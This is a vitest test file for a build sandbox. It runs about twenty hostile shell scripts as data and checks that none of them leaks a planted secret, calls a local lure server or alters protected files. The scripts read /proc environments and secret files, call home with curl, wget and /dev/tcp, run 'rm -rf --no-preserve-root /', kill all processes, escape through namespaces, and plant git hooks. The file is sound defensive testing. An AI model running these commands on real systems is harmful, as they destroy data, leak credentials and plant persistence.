import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { runCommand } from "../../activities/build/run-command.ts";
import { findSandbox, type Sandbox } from "../../activities/build/sandbox.ts";

/** Not in /tmp, which a sandbox covers anyway. */
const base = mkdtempSync("/var/tmp/patchmoi-hostile-");
const [operator, data, room] = [join(base, "operator"), join(base, "data"), join(base, "data", "builds", "build-1")];
const [tree, home] = [join(room, "tree"), join(room, "home")];
const SECRET = "s3cr3t-t0k3n";
const visits: string[] = [];
const server = createServer((request, response) => {
  visits.push(request.url ?? "");
  response.end();
});
let sandbox: Sandbox;
let port = 0;

beforeAll(async () => {
  for (const each of [operator, tree, home]) mkdirSync(each, { recursive: true });
  writeFileSync(join(operator, "secret"), SECRET);
  writeFileSync(join(data, "records.jsonl"), SECRET);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  port = (server.address() as AddressInfo).port;
  sandbox = await findSandbox();
});
afterAll(() => {
  server.close();
  rmSync(base, { recursive: true, force: true });
});

/** What a build that upstream made evil may try. `O` is the operator's home, `D` the service's data, `P` the lure's port. */
const SCRIPTS: [name: string, script: string][] = [
  ["reads the operator's files", 'cat "$O/secret"; tar cf - "$O"; find / -name secret -exec cat {} +'],
  ["reads the service's data", 'cat "$D/records.jsonl"; cat "$D"/*; ls -R "$D"; cat ../../../records.jsonl'],
  ["reads the environment of others", "cat /proc/*/environ | tr '\\\\0' '\\\\n'; cat /proc/$PPID/environ"],
  [
    "goes through the file descriptors of others",
    'for f in /proc/*/fd/*; do cat "$f" </dev/null & done; sleep 1; kill %% 2>/dev/null',
  ],
  [
    "goes through the roots of others",
    'for r in /proc/*/root /proc/*/cwd; do cat "$r$O/secret" "$r$D/records.jsonl"; done',
  ],
  ["writes to the operator's files", 'echo x >"$O/canary"; mkdir "$O/canary"; ln -s /etc "$O/canary"'],
  ["writes to the service's data", 'echo x >"$D/canary"; echo x >>"$D/records.jsonl"; rm -rf "$D"'],
  ["deletes all that it can reach", "rm -rf --no-preserve-root / 2>/dev/null; true"],
  [
    "calls home by curl, wget and the shell",
    'curl -m 2 "http://127.0.0.1:$P/x"; wget -T 2 -q -O- "http://127.0.0.1:$P/x"; bash -c "echo GET /x >/dev/tcp/127.0.0.1/$P"',
  ],
  ["calls home by node", 'node -e "fetch(process.argv[1]).catch(()=>{})" "http://127.0.0.1:$P/x"'],
  ["leaves a daemon behind", '(setsid sh -c "sleep 2; touch $O/canary; curl http://127.0.0.1:$P/x" >/dev/null 2>&1 &)'],
  [
    "leaves a daemon behind that ignores signals",
    "(setsid sh -c \"trap '' TERM HUP INT; sleep 2; touch $O/canary\" >/dev/null 2>&1 &)",
  ],
  ["kills what it can", "kill -9 -1; kill -9 $PPID; kill -9 1; true"],
  [
    "becomes root of namespaces of its own",
    'unshare -r -m sh -c \'mount --bind / /mnt; cat "$O/secret"; umount -l "$O"; cat "$O/secret"\'',
  ],
  ["mounts and unmounts", 'umount -l "$O"; umount -l "$D"; mount -t tmpfs x "$O"; cat "$O/secret"'],
  ["uses set-uid programs", 'sudo -n cat "$O/secret"; su -c "cat $O/secret"; pkexec cat "$O/secret"'],
  [
    "talks to the container engine",
    "curl -s --unix-socket /var/run/docker.sock http://x/containers/json; ls /run/*.sock",
  ],
  [
    "plants hooks and configs for later",
    'mkdir -p .git/hooks; printf "#!/bin/sh\\ntouch $O/canary" >.git/hooks/post-checkout; printf "[core]\\n\\tfsmonitor = touch $O/canary" >"$HOME/.gitconfig"',
  ],
  ["makes links that lead out", 'ln -s "$O/secret" leak; ln -s / root; ln "$O/secret" hard'],
  ["makes its tree hard to delete", "mkdir -p deep/er; chmod 000 deep; touch -- -rf '*' ' '"],
];

test.each(SCRIPTS)("a build that %s gets nothing and harms nothing", async (_, script) => {
  const seen: Buffer[] = [];
  const argv = sandbox.wrap(`(${script}) 2>&1; true`, {
    tree,
    home,
    network: false,
    hidden: [data, operator],
    programs: ["/usr/bin", "/bin"],
  });
  const env = { PATH: process.env.PATH ?? "", HOME: home, O: operator, D: data, P: String(port) };
  const before = spawnSync("ls", ["-laR", operator]).stdout.toString();
  await runCommand(argv, {
    cwd: tree,
    env,
    timeoutMs: 20_000,
    signal: new AbortController().signal,
    onOutput: (chunk) => seen.push(chunk),
  });
  // A daemon would have had its time by then.
  if (script.includes("setsid")) await new Promise((resolve) => setTimeout(resolve, 3_000));
  if (sandbox.name === "none") return;
  expect(Buffer.concat(seen).toString("latin1")).not.toContain(SECRET);
  expect(visits).toEqual([]);
  expect(spawnSync("ls", ["-laR", operator]).stdout.toString()).toBe(before);
  expect(readFileSync(join(operator, "secret"), "utf8")).toBe(SECRET);
  expect(readFileSync(join(data, "records.jsonl"), "utf8")).toBe(SECRET);
  expect(readdirSync(data).sort()).toEqual(["builds", "records.jsonl"]);
});
